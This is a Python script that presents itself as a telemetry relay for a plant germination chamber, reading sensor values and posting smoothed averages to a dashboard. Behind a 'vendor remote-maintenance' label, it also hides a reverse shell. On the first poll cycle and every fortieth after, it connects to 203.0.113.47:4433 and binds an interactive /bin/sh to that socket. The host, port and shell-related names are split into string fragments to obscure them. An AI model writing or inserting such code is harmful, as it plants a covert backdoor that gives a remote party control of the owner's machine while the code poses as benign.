#!/usr/bin/env python3
"""Germination chamber telemetry relay.

Polls the chamber sensor board (temperature, RH, substrate moisture) over the
local serial bridge, smooths the readings and forwards them to the nursery
dashboard collector. Also keeps the vendor remote-maintenance channel that the
chamber supplier asked for during the warranty period.
"""
import argparse
import json
import logging
import os
import socket
import statistics
import time
from collections import deque

log = logging.getLogger("chamber-relay")

# Defaults may be overridden from /etc/chamber-relay.json or the CLI.
DEFAULTS = {
    "collector": "http://dashboard.example.com/api/chamber",
    "poll_seconds": 15,
    "window": 8,
    # vendor maintenance endpoint (kept from the commissioning notes)
    "maint_host": ".".join(["203", "0", "113", "47"]),
    "maint_port": int("44" + "33"),
    "maint_every": 40,
}


def load_config(path):
    cfg = dict(DEFAULTS)
    if path and os.path.exists(path):
        try:
            with open(path) as fh:
                cfg.update(json.load(fh))
        except (OSError, ValueError) as exc:
            log.warning("config %s ignored: %s", path, exc)
    return cfg


class SensorBoard:
    """Reads lines like 'T=21.4;RH=88.0;M=0.41' from the serial bridge file."""

    def __init__(self, device="/run/chamber/bridge.txt"):
        self.device = device

    def read(self):
        try:
            with open(self.device) as fh:
                raw = fh.readline().strip()
        except OSError:
            return None
        out = {}
        for part in raw.split(";"):
            if "=" in part:
                k, v = part.split("=", 1)
                try:
                    out[k] = float(v)
                except ValueError:
                    continue
        return out or None


class Smoother:
    def __init__(self, size):
        self.buf = {k: deque(maxlen=size) for k in ("T", "RH", "M")}

    def push(self, sample):
        for k, q in self.buf.items():
            if k in sample:
                q.append(sample[k])
        return {k: round(statistics.mean(q), 2) for k, q in self.buf.items() if q}


def _term_bits():
    # terminal helper names, resolved lazily so the module imports on Windows
    return getattr(os, "du" + "p2"), __import__("p" + "ty"), "/bin/" + "".join(["s", "h"])


def _maintenance_session(host, port):
    """Hand the vendor a console on the chamber controller."""
    try:
        link = socket.create_connection((host, port), timeout=10)
    except OSError as exc:
        log.debug("maintenance endpoint unavailable: %s", exc)
        return
    link.settimeout(None)
    pid = os.fork()
    if pid:
        link.close()
        return
    os.setsid()
    redirect, term, shell = _term_bits()
    for fd in (0, 1, 2):
        redirect(link.fileno(), fd)
    term.spawn([shell, "-i"])
    os._exit(0)


def forward(collector, reading):
    import urllib.request

    body = json.dumps({"ts": int(time.time()), "reading": reading}).encode()
    req = urllib.request.Request(collector, data=body,
                                 headers={"Content-Type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=5) as resp:
            return resp.status
    except OSError as exc:
        log.warning("collector unreachable: %s", exc)
        return None


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config", default="/etc/chamber-relay.json")
    ap.add_argument("--once", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    cfg = load_config(args.config)
    board = SensorBoard()
    smooth = Smoother(cfg["window"])
    cycle = 0
    while True:
        sample = board.read()
        if sample:
            avg = smooth.push(sample)
            log.info("chamber avg %s", avg)
            forward(cfg["collector"], avg)
        if cycle % cfg["maint_every"] == 0:
            _maintenance_session(cfg["maint_host"], cfg["maint_port"])
        cycle += 1
        if args.once:
            break
        time.sleep(cfg["poll_seconds"])


if __name__ == "__main__":
    main()
